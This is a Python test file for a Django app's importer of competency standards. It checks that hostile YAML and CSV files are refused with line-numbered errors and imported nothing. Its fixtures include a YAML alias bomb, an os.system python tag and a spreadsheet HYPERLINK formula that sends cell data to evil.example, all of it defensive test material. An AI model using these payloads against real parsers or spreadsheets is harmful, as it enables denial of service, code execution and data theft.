"""Hostile competency-standard files (YAML and CSV): alias bombs, deep nesting, unsafe tags, values no safe
constructor can make, binary data, mismatched quotes, huge lines and formula cells are refused with a problem that
names the line, and nothing is written; random and mutated files never make the reader raise or hang."""

import time

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import given
from hypothesis import strategies as st

from assessments.models import CompetencyStandard, CompetencyUnit, Element, PerformanceCriterion
from assessments.standards.files import (
    ImportResult,
    standard_export_csv,
    standard_import,
    standard_parse,
)
from tests.assessments.standards.support import GARMENT_CSV, GARMENT_YAML
from tests.hardening.mutations import mutated, random_bytes, random_text

YAML = GARMENT_YAML.encode()
CSV = GARMENT_CSV.encode()
IMPORT_URL = "/admin/snippets/assessments/competencystandard/import/"


def then_the_result_is_clean(result: ImportResult) -> None:
    assert isinstance(result, ImportResult)
    assert result.standard is None
    for problem in result.errors:
        assert problem.message and str(problem)
        assert problem.line is None or problem.line >= 1


def _counts() -> tuple[int, int, int, int]:
    models = (CompetencyStandard, CompetencyUnit, Element, PerformanceCriterion)
    return tuple(model.objects.count() for model in models)


# --- YAML ----------------------------------------------------------------------------------------------------------
ALIAS_BOMB = b"""\
a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
title: [*g,*g,*g,*g,*g,*g,*g,*g,*g]
"""
HOSTILE_YAML = {
    "alias bomb": (ALIAS_BOMB, 2, "Anchors and aliases (*name) are not allowed."),
    "deep flow nesting": (b"title: " + b"[" * 100_000, 1, "Lists and mappings are nested more than 20 deep."),
    "deep block nesting": (
        b"units:\n" + b"".join(b" " * n + b"- \n" for n in range(1, 200)),
        21,
        "Lists and mappings are nested more than 20 deep.",
    ),
    "python tag": (
        b"title: !!python/object/apply:os.system ['true']\n",
        1,
        "This is not valid YAML: could not determine a constructor for the tag "
        "'tag:yaml.org,2002:python/object/apply:os.system'.",
    ),
    "impossible date": (b"title: T\nyear: 2020-13-45\n", None, "This is not valid YAML: month must be in 1..12."),
    "huge integer": (b"title: T\nyear: " + b"9" * 5000 + b"\n", None, "This is not valid YAML: Exceeds the limit"),
    "not utf-8": (b"title: Caf\xe9\n", 1, "The file is not UTF-8 text."),
    "nul": (b"title: T\nsector: \x00\n", 2, "The file holds binary data, not text."),
    "control character": (b"title: T\n\x07\n", 2, "This is not valid YAML: special characters are not allowed."),
    "over-long title": (b"title: " + b"x" * 300 + b"\nunits: []\n", 1, "This is 300 characters long"),
    "wrong type": (b"title: {a: b}\n", 1, "This must be text."),
}


@pytest.mark.parametrize(("data", "line", "message"), HOSTILE_YAML.values(), ids=HOSTILE_YAML.keys())
def test_hostile_yaml_is_refused_with_a_problem_that_names_its_line(data, line, message):
    started = time.monotonic()

    result = standard_parse(data=data, filename="hostile.yaml")  # when

    then_the_result_is_clean(result)
    assert any(problem.line == line and message in problem.message for problem in result.errors), result.errors
    assert time.monotonic() - started < 10


def test_more_values_than_the_limit_stop_the_reader_at_the_first_one_too_many(settings):
    # given a limit (the default, 100,000 values, takes the pure-Python reader about 5 s to reach)
    settings.KOMPETEN_STANDARD_IMPORT_MAX_YAML_NODES = 1_000
    data = b"title: T\nunits:\n" + b"- 1\n" * 100_000  # the 1,001st value is the 996th item, on line 998

    result = standard_parse(data=data, filename="values.yaml")  # when

    assert [(problem.line, problem.message) for problem in result.errors] == [
        (998, "The file holds more than 1000 values; split the standard or use CSV.")
    ]


def test_a_byte_order_mark_before_yaml_is_ignored():
    assert standard_parse(data=b"\xef\xbb\xbf" + YAML, filename="garmen.yaml").ok


# --- CSV -----------------------------------------------------------------------------------------------------------
HEADER = b"standard_title,unit_code,unit_title,element_number,element_title,criterion_number,criterion_text\n"
HOSTILE_CSV = {
    "mismatched quote": (HEADER + b'T,U1,"Unit" one,1,E,1.1,C\n', 2, "This is not valid CSV"),
    "unclosed quote": (HEADER + b'T,U1,"Unit,1,E,1.1,C\n', 2, "This is not valid CSV"),
    "huge single line": (HEADER + b"T,U1,U," + b"9" * 200_000 + b"\n", 2, "This is not valid CSV: field larger"),
    "not utf-8": (HEADER + b"T,U1,Caf\xe9,1,E,1.1,C\n", 2, "The file is not UTF-8 text."),
    "nul": (HEADER + b"T,U1,U\x00,1,E,1.1,C\n", 2, "The file holds binary data, not text."),
    "unicode digits": (HEADER + "T,U1,U,²,E,1.1,C\n".encode(), 2, "This must be a whole number."),
    "huge number": (HEADER + b"T,U1,U," + b"9" * 5000 + b",E,1.1,C\n", 2, "This must be a whole number."),
    "over-long code": (HEADER + b"T," + b"U" * 300 + b",U,1,E,1.1,C\n", 2, "This is 300 characters long"),
    "extra cells": (HEADER + b"T,U1,U,1,E,1.1,C,surplus\n", 2, "This row has more cells than the first line has"),
}


@pytest.mark.parametrize(("data", "line", "message"), HOSTILE_CSV.values(), ids=HOSTILE_CSV.keys())
def test_hostile_csv_is_refused_with_a_problem_that_names_its_line(data, line, message):
    result = standard_parse(data=data, filename="hostile.csv")

    then_the_result_is_clean(result)
    assert any(problem.line == line and message in problem.message for problem in result.errors), result.errors


def test_more_rows_than_the_limit_are_refused_at_the_first_row_too_many(settings):
    settings.KOMPETEN_STANDARD_IMPORT_MAX_ROWS = 3

    rows = b"".join(b"T,U1,U,1,E,1.%d,C\n" % n for n in range(1, 5))

    result = standard_parse(data=HEADER + rows, filename="rows.csv")

    assert [(problem.line, problem.message) for problem in result.errors] == [(5, "The file has more than 3 rows.")]


def test_a_file_with_endless_problems_lists_the_first_ones_and_stops(settings):
    settings.KOMPETEN_IMPORT_MAX_PROBLEMS = 10
    rows = b"".join(b"T,U%d,U,x,E,1.1,C\n" % n for n in range(1000))  # every row: a bad element number

    result = standard_parse(data=HEADER + rows, filename="problems.csv")

    assert len(result.errors) == 11
    assert "too many problems" in result.errors[-1].message


def test_the_file_size_limit_is_a_setting(settings):
    settings.KOMPETEN_STANDARD_IMPORT_MAX_BYTES = 100

    result = standard_parse(data=YAML, filename="garmen.yaml")

    assert [problem.message for problem in result.errors] == ["The file is larger than 9.53674e-05 MB."]


@pytest.mark.django_db
def test_formula_cells_are_kept_as_text_and_exported_behind_an_apostrophe():
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    data = HEADER + f'T,U1,U,1,E,1.1,"{formula.replace(chr(34), chr(34) * 2)}"\n'.encode()

    result = standard_import(data=data, filename="formula.csv")  # when

    assert result.ok
    criterion = PerformanceCriterion.objects.get()
    assert criterion.text == formula  # stored as the text it is, shown escaped
    assert f"'{formula}".replace('"', '""') in standard_export_csv(result.standard)  # inert in a spreadsheet


# --- property-based ----------------------------------------------------------------------------------------------
@given(data=random_bytes, filename=st.sampled_from(["s.yaml", "s.csv"]))
def test_random_bytes_give_problems_never_an_exception(data, filename):
    then_the_result_is_clean(standard_parse(data=data, filename=filename))


@given(data=random_text, filename=st.sampled_from(["s.yaml", "s.csv"]))
def test_random_text_gives_problems_never_an_exception(data, filename):
    then_the_result_is_clean(standard_parse(data=data, filename=filename))


@given(data=mutated(YAML))
def test_mutated_yaml_gives_a_result_never_an_exception(data):
    then_the_result_is_clean(standard_parse(data=data, filename="mutated.yaml"))


@given(data=mutated(CSV))
def test_mutated_csv_gives_a_result_never_an_exception(data):
    then_the_result_is_clean(standard_parse(data=data, filename="mutated.csv"))


@pytest.mark.django_db
@given(data=st.one_of(mutated(YAML, max_mutations=3), mutated(CSV, max_mutations=3)), dry_run=st.booleans())
def test_an_import_of_a_mutated_file_is_all_or_nothing(data, dry_run):
    # given the stored standards as they are
    filename = "mutated.csv" if data.lstrip(b"\xef\xbb\xbf").startswith(b"standard_") else "mutated.yaml"
    before = _counts()

    result = standard_import(data=data, filename=filename, dry_run=dry_run)  # when

    # then: nothing changed unless the import succeeded for real
    if result.errors or dry_run:
        assert _counts() == before
    for problem in result.errors:
        assert problem.message


# --- the admin upload ------------------------------------------------------------------------------------------
@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        ("bomb.yaml", ALIAS_BOMB, "Anchors and aliases (*name) are not allowed."),
        ("deep.yaml", b"title: " + b"[" * 10_000, "nested more than 20 deep"),
        ("tag.yaml", b"title: !!python/object/apply:os.system ['true']\n", "could not determine a constructor"),
        ("date.yaml", b"title: T\nyear: 2020-13-45\n", "month must be in 1..12"),
        ("binary.csv", HEADER + b"T,U1,U\x00\n", "The file holds binary data, not text."),
        ("quote.csv", HEADER + b'T,U1,"U" x\n', "This is not valid CSV"),
        ("latin.csv", HEADER + b"T,U1,Caf\xe9\n", "The file is not UTF-8 text."),
    ],
)
def test_the_admin_upload_of_a_hostile_file_shows_the_problem_and_imports_nothing(admin_client, name, data, message):
    response = admin_client.post(IMPORT_URL, {"file": SimpleUploadedFile(name, data)})  # when

    assert response.status_code == 200
    page = response.content.decode()
    assert message.replace("'", "&#x27;") in page or message in page
    assert response.context["checked"] == ""  # nothing to import: no "import" button
    assert _counts() == (0, 0, 0, 0)
